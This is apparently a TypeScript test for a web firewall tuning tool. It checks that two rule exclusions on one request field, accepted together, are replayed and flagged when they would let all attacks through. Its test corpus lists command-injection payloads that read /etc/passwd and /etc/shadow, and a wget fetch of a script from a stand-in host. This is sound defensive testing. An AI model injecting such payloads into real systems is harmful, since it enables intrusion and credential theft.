import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseConfig } from '../../src/config/load.js';
import type { Finding } from '../../src/exchange/exchange.js';
import type { ExchangeRecord } from '../../src/store/record.js';
import { replayTogether, tune } from '../../src/tune/tune.js';

// Two rules flagged on one free-text field, each from three clients: each exclusion alone keeps the command-plus-file
// attacks caught (the other rule still scores 5); accepted together they let every one of them through.

const cfg = parseConfig(
  `upstreams: { app: { url: "http://127.0.0.1:9" } }
routes:
  - name: notes
    match: { path: /notes, methods: [POST] }
`,
  'p.yaml',
);

function record(i: number, client: string, rule: string, category: string): ExchangeRecord {
  const finding: Finding = { category, rule, severity: 'critical', confidence: 1, score: 5, location: 'body:/text', evidence: 'as recorded' };
  return {
    id: `r${i}`,
    time: Date.UTC(2026, 10, 20 + (i % 3)),
    source: 'gateway',
    client_ip: client,
    peer_ip: client,
    country: null,
    asn: null,
    asn_org: null,
    principal: null,
    principal_kind: null,
    method: 'POST',
    host: 'api',
    route: 'notes',
    route_template: '/notes',
    path: '/notes',
    query: '',
    status: 403,
    latency_ms: 1,
    req_bytes: 20,
    resp_bytes: 0,
    action: 'block',
    reasons: [{ control: 'detect', rule, message: 'attack', status: 403, mode: 'enforce' }],
    findings: [finding],
    user_agent: 'curl/8',
    req_headers: { 'content-type': 'application/json' },
    resp_headers: null,
    req_body: JSON.stringify({ text: 'see the runbook' }),
    resp_body: null,
    error: null,
  };
}

const records = [
  ...['10.0.0.1', '10.0.0.2', '10.0.0.3'].map((c, i) => record(i, c, 'lfi.sensitive-file', 'lfi')),
  ...['10.0.0.4', '10.0.0.5', '10.0.0.6'].map((c, i) => record(10 + i, c, 'rce.command-chain', 'rce')),
];

const corpus = {
  source: 'test',
  cases: 5,
  payloads: ['; cat /etc/passwd', '|cat /etc/shadow', '`cat /etc/passwd`', '$(cat /etc/passwd)', '; wget http://evil.example/x.sh'].map((text) => ({ family: 'rce', text })),
};

test('exclusions accepted together on one field are replayed together', () => {
  const opts = { minClients: 3, maxAttackShare: 0.25, maxLetThroughPct: 25 };
  const r = tune(cfg, records, corpus, opts);
  const lfi = r.proposals.find((p) => p.group.rule === 'lfi.sensitive-file')!;
  const rce = r.proposals.find((p) => p.group.rule === 'rce.command-chain')!;
  assert.deepEqual(lfi.group.exclusion, { rule: 'lfi.sensitive-file', location: 'body:/text' });
  assert.equal(lfi.attacks.placedAt, 'body:/text');
  assert.equal(lfi.attacks.caught, 5);
  assert.equal(lfi.attacks.letThrough, 0, 'the command rule still catches them');
  assert.equal(rce.attacks.letThrough, 1, 'only the wget payload has no file in it');
  assert.deepEqual(lfi.unsafe, []);
  assert.deepEqual(rce.unsafe, []);
  assert.equal(lfi.traffic.notReproduced, 3, 'the stored bodies no longer carry what was flagged, and the report says so');
  const together = replayTogether(cfg, [lfi, rce], corpus, opts);
  assert.equal(together.length, 1, together.join('\n'));
  assert.match(together[0]!, /together on route notes: would let through 5 of 5 attacks at body:\/text/);
  assert.deepEqual(replayTogether(cfg, [lfi], corpus, opts), [], 'one exclusion alone is judged by its own replay');
});
